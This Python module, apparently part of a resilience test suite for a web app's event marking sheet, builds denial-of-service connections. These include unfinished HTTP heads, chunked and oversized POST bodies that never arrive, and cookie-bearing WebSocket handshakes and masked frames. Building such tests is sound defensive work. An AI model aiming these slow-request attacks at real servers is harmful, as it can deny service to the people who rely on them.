"""What attacks are made of: where they go, what they begin with, and what follows it."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final
from urllib.parse import urlsplit

PATIENCE_SECONDS: Final = 5.0  # for a connection, and for what is waited for on it
MASK: Final = b"\x12\x34\x56\x78"


@dataclass(frozen=True)
class Foothold:
    """Where an attack goes, and as whom: somebody logged in, and an event of theirs."""

    url: str
    token: str
    event_id: str
    certificate: Path | None = None

    def head(self, line: str, *headers: str) -> bytes:
        """Writes a request as far as the end of these headers; more may follow."""
        host = f"Host: {urlsplit(self.url).netloc}"
        return "".join(f"{each}\r\n" for each in (line, host, *headers)).encode()

    def handshake(self, *headers: str) -> bytes:
        """Writes a handshake for the sheet of the event."""
        return self.head(
            f"GET /ws/marking?event_id={self.event_id} HTTP/1.1",
            *("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"),
            *("Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", *headers, "\r\n"),
        ).removesuffix(b"\r\n")

    def connected(self, *, reads: bool) -> socket.socket:
        """Connects; what is not read fills as little as it may. Raises OSError."""
        url = urlsplit(self.url)
        made = socket.socket()
        if not reads:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.settimeout(PATIENCE_SECONDS)
        try:
            made.connect((url.hostname, url.port))
            if self.certificate is None:
                return made
            trusts = ssl.create_default_context(cafile=self.certificate)
            return trusts.wrap_socket(made, server_hostname=url.hostname)
        except BaseException:
            made.close()
            raise


def logged_in(foothold: Foothold) -> bytes:
    """Writes a handshake that lets us in."""
    session = "sessionid" if foothold.certificate is None else "__Host-sessionid"
    return foothold.handshake(f"Cookie: {session}={foothold.token}")


def not_logged_in(foothold: Foothold) -> bytes:
    """Writes a handshake that is answered, and then refused."""
    return foothold.handshake()


def chunked(path: str) -> Callable[[Foothold], bytes]:
    """Writes the head of a POST whose body is to come in chunks, of nobody who is logged in."""
    headers = ("Content-Type: application/json", "Transfer-Encoding: chunked")
    return lambda foothold: foothold.head(f"POST {path} HTTP/1.1", *headers) + b"\r\n"


def sized(path: str, size: int = 2**24) -> Callable[[Foothold], bytes]:
    """Writes the head of a POST with a body of so many bytes; else as large as of any call."""
    headers = ("Content-Type: application/json", f"Content-Length: {size}")
    return lambda foothold: foothold.head(f"POST {path} HTTP/1.1", *headers) + b"\r\n"


def unfinished(foothold: Foothold) -> bytes:
    """Writes the first lines of a head."""
    return foothold.head("GET /api/auth/GetCurrentUserId HTTP/1.1")


def frame(opcode: int, payload: bytes = b"", *, fin: bool = True) -> bytes:
    """Writes a frame as a browser sends it: masked."""
    masked = bytes(each ^ MASK[place % 4] for place, each in enumerate(payload))
    return bytes([0x80 * fin | opcode, 0x80 | len(payload)]) + MASK + masked


@dataclass(frozen=True)
class Attack:
    """A few connections of one kind."""

    what: str
    head: Callable[[Foothold], bytes]
    forever: bytes
    awaits: bytes = b""  # heard before the rest is said
    begins: bytes = b""
    connections: int = 1
    reads: bool = False
